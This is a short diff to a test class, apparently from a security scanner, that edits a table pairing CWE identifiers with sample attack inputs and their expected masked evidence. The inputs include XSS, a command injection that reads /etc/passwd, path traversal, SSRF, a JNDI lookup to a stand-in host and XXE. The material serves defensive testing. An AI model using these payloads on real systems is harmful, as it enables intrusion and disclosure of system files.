@@ -34,7 +34,7 @@ class EvidenceTests {
 			CWE-79 | `<img src=x onerror=alert(1)>`      | `<img src=a onerror=alert(1)> (0-28 of 28)`
 			CWE-78 | `x; cat /etc/passwd`                | `a; cat /etc/passwd (0-18 of 18)`
 			CWE-22 | `../../../etc/passwd`               | `../../../etc/passwd (0-19 of 19)`
-			CWE-918 | `http://localhost:8080/internal`   | `http://localhost:9999/internal (0-30 of 30)`
+			CWE-918 | `http://localhost:8080/internal`   | `http://localhost:9999/aaaaaaaa (0-30 of 30)`
 			CWE-917 | `${jndi:ldap://evil.example/a}`    | `${jndi:ldap://aaaa.aaaaaaa/a} (0-29 of 29)`
 			CWE-943 | `{"$ne": null}`                    | `{"$ne": null} (0-13 of 13)`
 			CWE-611 | `<!DOCTYPE a SYSTEM "file:///b">`  | `<!DOCTYPE a SYSTEM "file:///a"> (0-31 of 31)`
